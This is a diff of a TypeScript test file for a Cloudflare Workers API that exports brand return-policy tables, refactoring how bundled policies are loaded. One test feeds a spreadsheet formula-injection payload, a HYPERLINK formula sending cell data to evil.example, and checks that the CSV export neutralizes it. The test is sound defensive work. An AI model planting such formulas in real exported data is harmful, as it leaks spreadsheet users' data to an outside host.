@@ -4,13 +4,13 @@
 // errors.test.ts, batch.test.ts and the fuzzer, fuzz/fuzz.test.ts.)
 
 import { env } from 'cloudflare:workers';
-import bundle from 'virtual:bundled-policies';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { createApp } from '../../functions/app.js';
+import { BundledPolicies } from '../../functions/policy-bundle.js';
 import type { Problem } from '../../functions/problem.js';
 import { KOSPET_RETURN } from './claims.js';
-import { call, freshApp, postJson, readJson } from './worker.js';
+import { bundledPolicy, call, freshApp, postJson, readJson } from './worker.js';
 
 const READ_ROUTES = ['/healthz', '/openapi.json', '/docs', '/v1/brands', '/v1/brands/kospet', '/v1/brands/kospet/coverage?part=watch', '/v1/brands/kospet/sheets', '/v1/brands/kospet/sheets/services', '/v1/brands/kospet/sheets/services?format=csv'];
 
@@ -95,7 +95,7 @@ describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(res.headers.get('content-disposition')).toBe('attachment; filename="kospet-services.csv"');
     const rows = parseCsv(await res.text());
-    const table = bundle.policies.kospet!.tables.find((t) => t.name === 'services')!;
+    const table = bundledPolicy('kospet').tables.find((t) => t.name === 'services')!;
     expect(rows).toHaveLength(table.rules.length + 1);
     expect(rows[0]![0]).toBe(table.hitPolicy);
     // S-FEEL's "-" (any) is among them: a spreadsheet shows it as typed.
@@ -104,9 +104,9 @@ describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
   });
 
   it('neutralizes a formula an editor typed into a label', async () => {
-    const kospet = bundle.policies.kospet!;
+    const kospet = bundledPolicy('kospet');
     const sneaky = { ...kospet, remedies: kospet.remedies.map((r, i) => (i === 0 ? { ...r, label: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' } : r)) };
-    const { request } = freshApp({ POLICIES: { get: async () => null } }, { bundle: { kospet: sneaky } });
+    const { request } = freshApp({ POLICIES: { get: async () => null } }, { bundle: BundledPolicies.of({ kospet: sneaky }) });
     const rows = parseCsv(await (await request('/v1/brands/kospet/sheets/remedies?format=csv')).text());
     expect(rows[1]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Refund")`);
     expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
